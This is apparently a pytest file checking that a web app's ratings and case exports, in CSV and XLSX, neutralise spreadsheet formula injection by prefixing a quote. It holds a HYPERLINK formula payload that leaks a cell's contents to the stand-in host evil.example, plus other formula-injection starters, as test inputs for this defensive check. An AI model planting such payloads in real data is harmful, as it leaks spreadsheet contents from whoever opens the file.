"""Exports never hand a spreadsheet a live formula (issue 15, item 5).

A platform sends a staff name ``=HYPERLINK(...)`` and a case number ``-2-3``; the box's ratings
and case exports, CSV and XLSX alike, must show them as text with a leading ``'``.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from openpyxl import load_workbook

from edge.app import build_box
from edge.config import load_box_config
from standard.records import LOCAL_TZ
from tests.boxes import write_box_folder
from web.box import create_app

AT = dt.datetime(2026, 11, 17, 10, 0, tzinfo=LOCAL_TZ)
PASSWORD = "export-formulas-password-1"
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
EVIL_CASE = "-2-3"
FOOD = "440605-SCJ-001"


@pytest.fixture
def hall(tmp_path):
    box = build_box(load_box_config(write_box_folder(tmp_path, district_name="南海区")),
                    clock=lambda: AT).start()
    box.hall.refresh_seconds = 0
    app = create_app(box)
    app.config["TESTING"] = True
    app.extensions["users"].add("auditor", "赵审计", "auditor", password=PASSWORD)
    headers = {"Authorization": f"Bearer {box.platform_token}"}
    event = {"event_id": "EVIL-1", "case_no": EVIL_CASE, "item_code": FOOD,
             "dept_code": "440605SCJ", "district_code": "440605", "event_type": "受理",
             "occurred_at": "2026-11-16T09:00:00+08:00",
             "actor": {"id": "S666", "name": EVIL_NAME}, "window_no": 1}
    answer = app.test_client().post("/api/v1/platform/events", json=[event], headers=headers)
    assert answer.get_json()["accepted"] == 1
    rating = {"version": 1, "evaluation_id": "QR-evil", "channel": "二维码",
              "case_no": EVIL_CASE, "level": 2, "rated_at": "2026-11-17T09:30:00+08:00"}
    answer = app.test_client().post("/api/v1/evaluations", json=[rating], headers=headers)
    assert answer.status_code == 200, answer.get_json()
    yield app
    box.stop()


def signed_in(app):
    client = app.test_client()
    page = client.get("/login").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page)[1]
    answer = client.post("/login", data={"username": "auditor", "password": PASSWORD,
                                         "csrf_token": token})
    assert answer.status_code == 302
    return client


def csv_rows(answer) -> list[list[str]]:
    return list(csv.reader(io.StringIO(answer.get_data().decode("utf-8-sig"))))


def test_the_ratings_export_shows_a_formula_as_text_in_csv_and_xlsx(hall):
    client = signed_in(hall)
    (row,) = csv_rows(client.get("/evaluations.csv?month=2026-11"))[1:]
    assert row[3] == "'" + EVIL_NAME and row[5] == "'" + EVIL_CASE
    book = load_workbook(io.BytesIO(client.get("/evaluations.xlsx?month=2026-11").data))
    sheet = book["评价明细"]
    name, case = sheet.cell(row=2, column=4), sheet.cell(row=2, column=6)
    assert (name.value, name.data_type) == ("'" + EVIL_NAME, "s")  # text, not formula "f"
    assert (case.value, case.data_type) == ("'" + EVIL_CASE, "s")
    assert not [cell.coordinate for line in sheet.iter_rows() for cell in line
                if cell.data_type == "f"]


def test_the_case_export_shows_a_leading_minus_as_text(hall):
    client = signed_in(hall)
    rows = csv_rows(client.get("/cases.csv"))
    assert ["'" + EVIL_CASE] == [row[0] for row in rows[1:]]
    book = load_workbook(io.BytesIO(client.get("/cases.xlsx").data))
    assert book["办件"].cell(row=2, column=1).value == "'" + EVIL_CASE


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(text):
    from web.exports import spreadsheet_safe

    assert spreadsheet_safe(text) == "'" + text


@pytest.mark.parametrize("value", ["王芳", "440605-SCJ-001", "", 3, -3, 2.5, None])
def test_plain_text_and_numbers_are_left_alone(value):
    from web.exports import spreadsheet_safe

    assert spreadsheet_safe(value) == value
